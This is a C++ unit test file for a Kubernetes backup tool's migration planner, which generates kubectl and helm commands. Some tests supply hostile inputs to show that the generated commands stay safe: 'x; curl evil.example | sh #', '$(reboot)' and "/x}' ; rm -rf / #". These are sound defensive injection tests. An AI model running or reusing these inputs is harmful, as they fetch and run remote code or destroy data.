#include "cli/migrate.h"

#include <fmt/format.h>

#include <catch2/catch.hpp>
#include <cstdlib>

#include "api/workload_kind.h"
#include "base/version.h"
#include "unit/support/fake_kubectl.h"
#include "unit/support/objects.h"
#include "unit/support/workloads.h"

using namespace stash;
using namespace stash::cli;
using namespace stash::test;

namespace {

using Lists = std::map<std::string, Json>;

Json named(const std::string& name, Json labels = Json::object()) {
  return {{"metadata", {{"name", name}, {"labels", std::move(labels)}}}};
}

const Json kChart = {{"app.kubernetes.io/managed-by", "Helm"},
                     {"helm.sh/chart", "stash-0.1.0"},
                     {"app.kubernetes.io/component", "webhook"}};

Lists an_old_installation() {
  Lists lists;
  lists["deployments"] = Json::array(
      {{{"metadata", {{"name", "stash-operator"}, {"namespace", "kube-system"}}},
        {"spec",
         {{"template",
           {{"spec", {{"containers", {{{"name", "operator"}, {"image", "appscode/stash:v0.9.0-rc.0"}}}}}}}}}}}});
  lists["validatingwebhookconfigurations"] = Json::array({named("admission.stash.appscode.com")});
  lists["apiservices"] =
      Json::array({named("v1alpha1.repositories.stash.appscode.com"), named("v1beta1.stash.appscode.com")});
  lists["customresourcedefinitions"] =
      Json::array({named("repositories.stash.appscode.com"), named("restics.stash.appscode.com")});
  lists["namespaces"] = Json::array({named("demo"), named("other")});
  lists["clusterroles"] = Json::array({named("stash-sidecar"), named("admin")});
  lists["backupconfigurations"] = Json::array({a_backup_configuration().json()});
  return lists;
}

std::vector<std::string> titles(const Migration& migration) {
  std::vector<std::string> titles;
  for (const auto& step : migration.steps) titles.push_back(step.title);
  return titles;
}

}  // namespace

TEST_CASE("an old installation is stopped, adopted, replaced and tidied up, in this order", "[cli][migrate]") {
  const Migration migration = plan_migration(an_old_installation());
  CHECK(titles(migration) == std::vector<std::string>{"Stop the old operator", "Remove its webhooks and API services",
                                                      "Let the chart own the CustomResourceDefinitions",
                                                      "Ask for injection where there are backups", "Install this chart",
                                                      "Remove what nobody needs any more"});
  CHECK(migration.steps[0].commands ==
        std::vector<std::string>{"kubectl delete deployment,service,serviceaccount stash-operator -n kube-system "
                                 "--ignore-not-found",
                                 "kubectl delete clusterrolebinding,clusterrole stash-operator --ignore-not-found"});
  CHECK(migration.steps[1].commands ==
        std::vector<std::string>{"kubectl delete validatingwebhookconfigurations admission.stash.appscode.com",
                                 "kubectl delete apiservices v1alpha1.repositories.stash.appscode.com"});
  CHECK(migration.steps[2].commands.front() ==
        "kubectl label crd repositories.stash.appscode.com app.kubernetes.io/managed-by=Helm --overwrite");
  CHECK(migration.steps[3].commands ==
        std::vector<std::string>{"kubectl label namespace demo stash.appscode.com/injection=enabled"});
}

TEST_CASE("an old release is stopped first, and uninstalled last by its own name", "[cli][migrate]") {
  Lists lists = an_old_installation();
  lists["deployments"][0]["metadata"]["name"] = "backup-stash";
  lists["deployments"][0]["metadata"]["labels"] = {{"release", "backup"}, {"heritage", "Helm"}};
  const Migration migration = plan_migration(lists);
  CHECK(migration.steps.front().commands ==
        std::vector<std::string>{"kubectl scale deployment backup-stash -n kube-system --replicas=0"});
  CHECK(migration.steps.back().commands.back() == "helm uninstall backup -n kube-system --no-hooks");
  lists["deployments"][0]["metadata"]["labels"]["heritage"] = "Tiller";  // Helm 3 does not know its release
  CHECK(plan_migration(lists).steps.back().commands.back() == "kubectl delete deployment backup-stash -n kube-system");
}

TEST_CASE("an old release whose objects have the names that ours are to have goes first", "[cli][migrate]") {
  for (const auto& [release, ns, deployment] :
       {std::tuple("stash-operator", "kube-system", "stash-operator"), {"stash", "stash", "stash"}}) {
    CAPTURE(release);
    Lists lists = an_old_installation();
    lists["deployments"][0]["metadata"] = {
        {"name", deployment}, {"namespace", ns}, {"annotations", {{"meta.helm.sh/release-name", release}}}};
    const Migration migration = plan_migration(lists);
    CHECK(migration.steps.front().commands ==
          std::vector<std::string>{fmt::format("helm uninstall {} -n {} --no-hooks", release, ns)});
    CHECK(migration.steps.back().commands == std::vector<std::string>{"kubectl delete clusterrole stash-sidecar"});
  }
}

TEST_CASE("what a tenant wrote is in no command that an administrator may copy", "[cli][migrate]") {
  Lists lists = an_old_installation();
  lists["clusterroles"].push_back(named("appscode:stash:$(reboot)"));
  for (const char* hostile : {"x; curl evil.example | sh #", "$(reboot)", "-n", "--kubeconfig=/tmp/x", "a b", "UP"}) {
    CAPTURE(hostile);
    lists["deployments"][0]["metadata"]["annotations"] = {{"meta.helm.sh/release-name", hostile}};
    const Migration migration = plan_migration(lists);
    for (const auto& step : migration.steps) {
      for (const std::string& command : step.commands) {
        CHECK_FALSE(command.contains("uninstall"));
        CHECK_FALSE(command.contains("reboot"));
      }
    }
    CHECK(migration.steps.front().commands ==
          std::vector<std::string>{"kubectl scale deployment stash-operator -n kube-system --replicas=0"});
    CHECK(migration.steps.front().by_hand ==
          std::vector<std::string>{"Deployment kube-system/stash-operator: its Helm release has an odd name; uninstall "
                                   "it with --no-hooks, if you know what it is"});
    CHECK(migrate_report(migration)["steps"].back()["byHand"] ==
          Json::array({"ClusterRoles above with an odd name: delete them, if you know what they are"}));
    CHECK(
        render_migration(migration, false).contains("\n    by hand: Deployment kube-system/stash-operator: its Helm"));
  }
}

TEST_CASE("no step deletes a CustomResourceDefinition or an object of a user", "[cli][migrate]") {
  for (const auto& step : plan_migration(an_old_installation()).steps) {
    for (const std::string& command : step.commands) {
      CAPTURE(command);
      CHECK_FALSE(command.starts_with("kubectl delete crd"));
      CHECK_FALSE(command.contains("delete backupconfiguration"));
      CHECK_FALSE(command.contains("delete repositor"));
    }
  }
}

TEST_CASE("the command that deletes an old CronJob finds the images for which it is printed", "[cli][migrate]") {
  for (const auto& [image, old] : {std::pair("appscode/stash:0.8", true),
                                   {"docker.io/stashed/stash:v0.12", true},
                                   {"registry.example.com/appscode/stash", true},
                                   {"localhost/stash:dev", false}}) {
    CAPTURE(image);
    Json cron_job = {{"metadata", {{"name", "stash-backup-web"}, {"namespace", "demo"}}}};
    cron_job["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"] = Json::array({{{"image", image}}});
    Lists lists = an_old_installation();
    lists["cronjobs"] = Json::array({cron_job});
    const auto commands = plan_migration(lists).steps.back().commands;
    const auto command = std::ranges::find_if(
        commands, [](const std::string& one) { return one.starts_with("kubectl get cronjob stash-backup-web"); });
    CHECK((command != commands.end()) == old);
    if (!old) continue;
    // The controller may have made it ours by then, and then it must stay.
    for (const auto& [now, deleted] : {std::pair(image, true), {"localhost/stash:dev", false}}) {
      const FakeKubectl fake(fmt::format("case \"$*\" in get*) echo '{}';; esac", now));
      (void)std::system(fmt::format("PATH={}:/usr/bin:/bin; {}", fake.directory(), *command).c_str());
      CHECK(fake.calls().contains("delete cronjob stash-backup-web -n demo") == deleted);
    }
  }
}

TEST_CASE("our own installation has nothing to migrate", "[cli][migrate]") {
  Lists lists;
  lists["mutatingwebhookconfigurations"] = Json::array({named("stash-injector", kChart)});
  // As the chart makes it, which has no further labels for CRDs.
  lists["customresourcedefinitions"] = Json::array(
      {named("repositories.stash.appscode.com", {{"app", "stash"}, {"app.kubernetes.io/managed-by", "Helm"}})});
  lists["customresourcedefinitions"][0]["metadata"]["annotations"] = {{"meta.helm.sh/release-name", "stash"}};
  lists["namespaces"] = Json::array({named("demo", {{"stash.appscode.com/injection", "enabled"}})});
  lists["backupconfigurations"] = Json::array({a_backup_configuration().json()});
  CHECK(plan_migration(lists).steps.empty());
  CHECK(render_migration(plan_migration(lists), false) == "Nothing of an AppsCode installation was found.\n");
}

TEST_CASE("a namespace that was never labelled is no trace of AppsCode", "[cli][migrate]") {
  Lists lists;
  lists["namespaces"] = Json::array({named("demo")});
  lists["backupconfigurations"] = Json::array({a_backup_configuration().json()});
  CHECK(plan_migration(lists).found.empty());
  CHECK(plan_migration(lists).steps.empty());
}

TEST_CASE("a workload with an old sidecar is no operator", "[cli][migrate]") {
  Lists lists;
  Json workload = a_workload().json();
  workload["spec"]["template"]["spec"]["containers"].push_back({{"name", "stash"},
                                                                {"image", "appscode/stash:v0.9.0-rc.0"},
                                                                {"args", {"run-backup", "--backup-configuration=x"}}});
  lists["deployments"] = Json::array({workload});
  const Migration migration = plan_migration(lists);
  CHECK(migration.found ==
        std::vector<std::string>{
            "old sidecar in Deployment demo/stash-demo: it is replaced, which restarts the pods once"});
  CHECK(titles(migration) == std::vector<std::string>{"Install this chart"});
}

TEST_CASE("the node's directories that Repositories use are allowed by the command that installs", "[cli][migrate]") {
  Lists lists = an_old_installation();
  const auto in_directory = [](const std::string& name, const std::string& path) {
    return Json{{"metadata", {{"namespace", "demo"}, {"name", name}}},
                {"spec", {{"backend", {{"local", {{"hostPath", {{"path", path}}}, {"mountPath", "/repo"}}}}}}}};
  };
  lists["repositories"] =
      Json::array({in_directory("below", "/srv/backups/a"), in_directory("above", "/srv/backups"),
                   in_directory("again", "/srv/backups/"), in_directory("other", "/data"),
                   in_directory("hostile", "/x}' ; rm -rf / #"), in_directory("upwards", "/srv/../etc")});
  const Migration migration = plan_migration(lists);
  const auto step = std::ranges::find(migration.steps, "Install this chart", &MigrationStep::title);
  REQUIRE(step != migration.steps.end());
  CHECK(step->commands.front() ==
        fmt::format("helm install stash charts/stash -n stash --create-namespace --set image.repository=REGISTRY/stash "
                    "--set image.tag={} --set 'hostPath.allowed={{/srv/backups,/data}}'",
                    version()));
  CHECK(step->why.starts_with("No image is published yet: docs/quick-start.md says how to make it;"));
  CHECK(step->why.contains("leave out those that you do not know"));
  CHECK(std::ranges::count(migration.found, "Repository demo/other is in the node's directory /data") == 1);
  CHECK(migration.unsupported ==
        std::vector<std::string>{"Repository demo/hostile: its hostPath is not a plain absolute path; name it in the "
                                 "chart's hostPath.allowed yourself",
                                 "Repository demo/upwards: its hostPath is not a plain absolute path; name it in the "
                                 "chart's hostPath.allowed yourself",
                                 "Repository demo/upwards: spec.backend.local.hostPath: path must not contain .."});
}

TEST_CASE("what is not taken over is said, with why", "[cli][migrate]") {
  Lists lists = an_old_installation();
  lists["repositories"] = Json::array(
      {a_repository().json(), a_repository("disk").volume({{"awsElasticBlockStore", {{"volumeID", "vol-1"}}}}).json(),
       a_repository("bare").volume(Json::object()).json()});
  Json elsewhere = a_backup_configuration("elsewhere").json();
  elsewhere["spec"]["repository"]["namespace"] = "backups";
  lists["backupconfigurations"] =
      Json::array({a_backup_configuration().target({"v1", "PersistentVolumeClaim", "data"}).json(), elsewhere});
  Json with_program = a_restore_session().json();
  with_program["spec"]["hooks"]["postRestore"]["exec"]["command"] = {"psql"};
  Json over = with_program;
  over["status"]["phase"] = "Succeeded";
  lists["restoresessions"] = Json::array({with_program, over});
  Json disk = {{"kind", "BackupBlueprint"}, {"metadata", {{"name", "disk"}}}};
  disk["spec"]["backend"]["local"] = {{"mountPath", "/repo"}, {"azureDisk", {{"diskName", "d"}}}};
  lists["backupblueprints"] =
      Json::array({{{"kind", "BackupBlueprint"}, {"metadata", {{"name", "good"}}}},
                   {{"kind", "BackupBlueprint"}, {"metadata", {{"name", "far"}}}, {"spec", {{"repoNamespace", "x"}}}},
                   disk});
  const std::string mounts_only =
      ": this version mounts only hostPath, persistentVolumeClaim, nfs and emptyDir; others come with a later one";
  CHECK(
      plan_migration(lists).unsupported ==
      std::vector<std::string>{
          "Repository demo/disk: spec.backend.local.awsElasticBlockStore" + mounts_only,
          "Repository demo/bare: spec.backend.local needs exactly one volume source beside mountPath",
          "BackupConfiguration demo/app-backup targets PersistentVolumeClaim data of v1, which this version does not "
          "support; supported: " +
              api::workload_kind_names(),
          "BackupConfiguration demo/elsewhere: /spec/repository/namespace: \"backups\" is another namespace, which is "
          "not supported; use an object in demo, or leave the field out",
          "RestoreSession demo/app-restore: spec.hooks.postRestore.exec cannot be run: the application's containers "
          "start after the restore; create a new one",
          "BackupBlueprint far: /spec/repoNamespace: Repositories of another namespace are not supported; each is "
          "made in the namespace of its workload, so leave the field out",
          "BackupBlueprint disk: spec.backend.local.azureDisk" + mounts_only});
}

TEST_CASE("workloads that have no backup any more are said to have none", "[cli][migrate]") {
  Lists lists = an_old_installation();
  const auto named_in_demo = [](const char* name) {
    return Json{{"metadata", {{"name", name}, {"namespace", "demo"}}}};
  };
  Json batch = named_in_demo("all");
  batch["spec"]["members"] = Json::array({{{"target", {{"ref", {{"kind", "Deployment"}, {"name", "web"}}}}}},
                                          {{"target", {{"ref", {{"kind", "StatefulSet"}, {"name", "db"}}}}}}});
  lists["restics"] = Json::array({named_in_demo("old")});
  lists["backupbatches"] = Json::array({batch});
  lists["restorebatches"] = Json::array({named_in_demo("back")});
  CHECK(
      plan_migration(lists).unsupported ==
      std::vector<std::string>{
          "Restic demo/old is left alone, and its workloads have no backup any more: write a BackupConfiguration for "
          "each of them",
          "BackupBatch demo/all is left alone, and its members (Deployment web, StatefulSet db) have no backup any "
          "more: write a BackupConfiguration for each of them. Delete its CronJob, or BackupSessions that nobody runs "
          "grow in number",
          "RestoreBatch demo/back is left alone: write a RestoreSession for each workload"});
}

TEST_CASE("a repository that the new sidecar may be unable to read is named, with what to set", "[cli][migrate]") {
  const std::string line =
      "BackupConfiguration demo/app-backup: the old sidecar wrote its repository as user 65535, and the new one is "
      "user "
      "1000; if it may not read the repository, set spec.runtimeSettings.container.securityContext.runAsUser to 65535";
  Json workload = a_workload().json();
  Json& pod = workload["spec"]["template"]["spec"];
  pod["containers"][0]["securityContext"]["runAsUser"] = 1000;
  pod["containers"].push_back({{"name", "stash"},
                               {"image", "appscode/stash:v0.9.0-rc.0"},
                               {"args", {"run-backup", "--backup-configuration=x"}}});
  Lists lists;
  lists["deployments"] = Json::array({workload});
  lists["repositories"] = Json::array({a_repository().json()});
  lists["backupconfigurations"] = Json::array({a_backup_configuration().json()});
  const auto is_told = [&line](const Lists& world) {
    return std::ranges::count(plan_migration(world).found, line) == 1;
  };
  CHECK(is_told(lists));
  SECTION("but not one in an object store") {
    lists["repositories"] = Json::array({a_repository().gcs("bucket", "").json()});
    CHECK_FALSE(is_told(lists));
  }
  SECTION("nor where the user stays, or is root, who may read all") {
    auto& container = lists["deployments"][0]["spec"]["template"]["spec"]["containers"][0];
    SECTION("as the configuration says") {
      lists["backupconfigurations"] = Json::array(
          {a_backup_configuration().container_settings({{"securityContext", {{"runAsUser", 65535}}}}).json()});
    }
    SECTION("as the pod says, for all its containers") {
      container.erase("securityContext");
      lists["deployments"][0]["spec"]["template"]["spec"]["securityContext"]["runAsUser"] = 1000;
    }
    SECTION("as nobody says") { container.erase("securityContext"); }
    CHECK_FALSE(is_told(lists));
  }
}

TEST_CASE("what could not be looked at is said where nothing was found", "[cli][migrate]") {
  Migration migration;
  migration.unseen = {"clusterroles.rbac.authorization.k8s.io"};
  CHECK(render_migration(migration, false) ==
        "Nothing of an AppsCode installation was found.\n"
        "\nNot looked at, for this account may not list them\n"
        "  clusterroles.rbac.authorization.k8s.io\n");
}
